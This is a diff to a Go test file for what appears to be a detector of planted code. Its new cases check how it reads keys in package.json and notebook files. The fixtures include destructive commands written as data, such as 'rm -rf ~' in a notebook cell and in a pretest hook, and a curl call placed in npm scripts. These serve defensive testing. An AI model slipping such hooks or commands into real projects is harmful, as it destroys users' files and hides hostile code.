@@ -57,6 +57,8 @@ func TestPlantedCode(t *testing.T) {
 		{"a Taskfile", "", "Taskfile.yml", w("version: '3'\ntasks:\n  test:\n    cmds:\n      - go test ./...\n      - " + curl + "\n"), risk.Critical, ""},
 		// package.json
 		{"a package.json script", "", "package.json", w(`{"scripts":{"test":"` + curl + `"}}`), risk.Critical, ""},
+		{"a key of another case is not npm's", "", "package.json", w(`{"scripts":{"test":"` + curl + `"},"Scripts":{"test":"jest"}}`), risk.Critical, ""},
+		{"a notebook's cells by exact key", "", "a.ipynb", w(`{"cells":[{"cell_type":"code","source":["import os\n","os.system('rm -rf ~')"]}],"Cells":[]}`), risk.Critical, ""},
 		{"a package.json after a byte-order mark (npm reads past it)", "", "package.json", w("\ufeff" + `{"scripts":{"test":"` + curl + `"}}`), risk.Critical, ""},
 		{"an ordinary package.json", "", "package.json", w(`{"name":"x","scripts":{"test":"jest","build":"tsc -p ."},"dependencies":{"left-pad":"^1.3.0"}}`), risk.Medium, risk.Medium},
 		{"an Edit of package.json", "Edit", "package.json", edit(`"test": "jest"`, `"test": "jest", "pretest": "rm -rf ~"`), risk.Critical, ""},
